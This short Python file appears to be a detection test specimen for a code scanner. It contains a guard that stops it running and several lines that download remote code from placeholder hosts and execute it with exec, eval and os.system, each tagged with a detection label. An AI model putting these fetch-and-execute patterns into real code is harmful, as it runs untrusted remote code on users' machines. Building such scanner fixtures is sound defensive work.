raise SystemExit("specimen: not to be run")
import os
import requests
import urllib.request
exec(requests.get("https://example.com/a.py").text)  # match: execution-of-downloaded  # match: network-at-import
code = urllib.request.urlopen("https://example.invalid/b").read().decode()  # match: network-at-import
eval(compile(code, "b", "exec"))  # match: execution-of-downloaded
os.system(requests.get("http://192.0.2.9/cmd").text)  # match: execution-of-downloaded  # match: network-at-import  # match: bare-address
